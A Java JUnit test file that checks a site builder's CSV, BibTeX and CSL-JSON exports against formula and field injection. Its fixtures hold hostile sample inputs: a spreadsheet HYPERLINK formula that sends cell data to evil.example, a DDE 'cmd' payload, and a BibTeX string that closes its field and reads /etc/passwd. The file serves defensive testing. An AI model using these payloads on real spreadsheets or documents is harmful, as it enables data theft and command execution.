package briefing.security;

import briefing.BuiltSite;
import briefing.ContentTree;
import briefing.Fixtures;
import briefing.emit.Citations;
import briefing.emit.Csv;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The data downloads carry what editors wrote to analysts' spreadsheets and reference managers: a name that is a
 * formula arrives as text (OWASP's leading quote), a negative number stays a number, and a title or address cannot
 * close its BibTeX field or break the CSL-JSON.
 */
class CsvExportTest {
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
    private static final String CMD = "+cmd|' /C calc'!A0";
    private static final String SUM = "@SUM(A1:A9)";
    private static final String ARITHMETIC = "-2+3";

    @TempDir
    static Path tmp;
    static Path data;
    static ContentTree tree;

    @BeforeAll
    static void build() throws Exception {
        tree = Fixtures.copy(Fixtures.MINIMAL, tmp.resolve("portal"));
        tree.write("actors/formula.yaml", yaml(Map.of("name", HYPERLINK, "kind", "mission", "description", ARITHMETIC + " is a sum to a spreadsheet"))
                + "aliases:\n  - " + quoted(CMD) + "\n  - " + quoted(SUM) + "\n");
        tree.write("places/tabbed.yaml", yaml(Map.of("name", "-Hidden =1+1", "kind", "city")) + "lat: -17.5\nlon: 168.25\n");
        tree.replace("sources/unotv-2022-first-report/facts.yaml", "    value: 12\n", "    value: -12.5\n")
                .replace("sources/unotv-2022-first-report/facts.yaml", "note: Invented wording for tests.", "note: " + quoted("=1+1 (invented)"))
                .replace("sources/unotv-2022-first-report/source.yaml", "title: \"First Report of the Observer Team (fictional)\"",
                        "title: " + quoted("Report} , note = {pwned} , x = {\\input{/etc/passwd} 100% & $5 #1 a_b ^ ~ \"q\""));
        data = BuiltSite.build(tree.project(), tmp.resolve("work")).resolve("data");
    }

    @Test
    void formulasArriveAsTextAndNumbersStayNumbers() throws Exception {
        Map<String, String> actor = row("actors.csv", "id", "formula");
        assertEquals("'" + HYPERLINK, actor.get("name"));
        assertEquals("'" + CMD + "; " + SUM, actor.get("aliases"));
        assertEquals("'" + ARITHMETIC + " is a sum to a spreadsheet", actor.get("description"));
        Map<String, String> place = row("places.csv", "id", "tabbed");
        assertEquals("'-Hidden =1+1", place.get("name"));
        assertEquals("-17.5", place.get("lat"), "a negative number stays a number");
        assertEquals("168.25", place.get("lon"));
        Map<String, String> figure = row("figures.csv", "measure", "observers");
        assertEquals("-12.5", figure.get("value"));
        assertEquals("'=1+1 (invented)", row("statements.csv", "actor", "unotv").get("note"));
        // and in every file, no cell a spreadsheet would run
        int cells = 0;
        try (var files = Files.list(data)) {
            for (Path csv : files.filter(f -> f.toString().endsWith(".csv")).sorted().toList()) {
                for (List<String> r : parse(csv)) {
                    for (String cell : r) {
                        cells++;
                        boolean formula = !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
                        assertFalse(formula && !cell.matches("-?\\d+(\\.\\d+)?"), csv.getFileName() + ": " + cell);
                    }
                }
            }
        }
        assertTrue(cells > 100, "the files were read: " + cells);
        // the JSON export keeps the text exactly as written
        JsonNode json = new ObjectMapper().readTree(data.resolve("portal.json").toFile());
        assertTrue(json.get("actors").findValuesAsText("name").contains(HYPERLINK));
    }

    @Test
    void aCellIsNeutralisedByItsFirstCharacterUnlessItIsANumber() {
        // content is trimmed, so a leading tab or carriage return cannot come from YAML today; the rule covers them anyway
        assertEquals("'\tcmd", Csv.cell("\tcmd"));
        assertEquals("\"'\r=1+1\"", Csv.cell("\r=1+1"));
        assertEquals("'-2+3", Csv.cell("-2+3"));
        assertEquals("'@SUM(A1:A9)", Csv.cell("@SUM(A1:A9)"));
        assertEquals("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\"", Csv.cell("=HYPERLINK(\"https://evil.example\",\"x\")"));
        assertEquals("'-", Csv.cell("-"));
        for (String number : new String[]{"-17.73", "+3", "-12", "1.0E-4", "-0.5", "12"}) assertEquals(number, Csv.cell(number));
        assertEquals("Zoë", Csv.cell("Zoë"));
        assertEquals("a = b", Csv.cell("a = b"));
    }

    @Test
    void aTitleOrAddressCannotCloseItsBibtexField() throws Exception {
        String title = "title = {Report\\} , note = \\{pwned\\} , x = \\{\\textbackslash{}input\\{/etc/passwd\\} 100\\% \\& \\$5 \\#1 a\\_b"
                + " \\textasciicircum{} \\textasciitilde{} \"q\"}";
        assertTrue(Files.readString(data.resolve("sources.bib")).contains(title), "the site's file");
        // an address with the characters BibTeX reads specially that a link may hold (braces and backslashes are refused
        // at validation): its entry still closes each field where it should
        tree.replace("sources/unotv-2022-first-report/source.yaml", "url: https://example.org/unotv/first-report",
                "url: \"https://example.org/a%7Db%7Bc_d?x=1&y=2#z~$\"");
        String bib = Citations.bibtex(tree.corpus().sources().values());
        String entry = bib.substring(bib.indexOf("@misc{unotv-2022-first-report,"));
        entry = entry.substring(0, entry.indexOf("\n}\n") + 3);
        // the entry's fields, read as BibTeX reads them: name = {balanced braces, \-escapes skipped}
        List<String> names = new ArrayList<>();
        int depth = 0;
        StringBuilder top = new StringBuilder();
        String body = entry.substring(entry.indexOf(',') + 1, entry.lastIndexOf('}'));
        for (int i = 0; i < body.length(); i++) {
            char c = body.charAt(i);
            if (c == '\\') {
                i++;
                continue;
            }
            if (c == '{') depth++;
            else if (c == '}') depth--;
            else if (depth == 0) top.append(c);
            assertTrue(depth >= 0, "a brace closes more than it opened: " + entry);
        }
        assertEquals(0, depth, entry);
        for (String part : top.toString().split(",")) if (part.contains("=")) names.add(part.substring(0, part.indexOf('=')).strip());
        assertEquals(List.of("title", "publisher", "date", "url", "langid"), names, entry);
        assertTrue(entry.contains(title), entry);
        assertTrue(entry.contains("url = {https://example.org/a%7Db%7Bc_d?x=1&y=2#z~$}"), entry);
        // CSL-JSON: the same strings, read back exactly
        JsonNode csl = new ObjectMapper().readTree(data.resolve("sources.json").toFile());
        assertEquals("Report} , note = {pwned} , x = {\\input{/etc/passwd} 100% & $5 #1 a_b ^ ~ \"q\"", csl.get(0).get("title").asText());
    }

    private static String yaml(Map<String, String> fields) {
        StringBuilder b = new StringBuilder();
        new TreeMap<>(fields).forEach((k, v) -> b.append(k).append(": ").append(quoted(v)).append('\n'));
        return b.toString();
    }

    /** A YAML double-quoted scalar. */
    private static String quoted(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r") + "\"";
    }

    private static Map<String, String> row(String file, String key, String value) throws Exception {
        List<List<String>> rows = parse(data.resolve(file));
        List<String> header = rows.get(0);
        for (List<String> r : rows.subList(1, rows.size())) {
            if (r.get(header.indexOf(key)).equals(value)) {
                Map<String, String> m = new TreeMap<>();
                for (int i = 0; i < header.size(); i++) m.put(header.get(i), r.get(i));
                return m;
            }
        }
        throw new AssertionError("no row with " + key + " = " + value + " in " + file);
    }

    /** RFC 4180, as a spreadsheet reads it (the byte-order mark dropped). */
    private static List<List<String>> parse(Path csv) throws Exception {
        String s = Files.readString(csv, StandardCharsets.UTF_8);
        if (s.startsWith("\uFEFF")) s = s.substring(1);
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < s.length() && s.charAt(i + 1) == '"') cell.append(s.charAt(++i));
                else if (c == '"') quoted = false;
                else cell.append(c);
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < s.length() && s.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        return rows;
    }
}
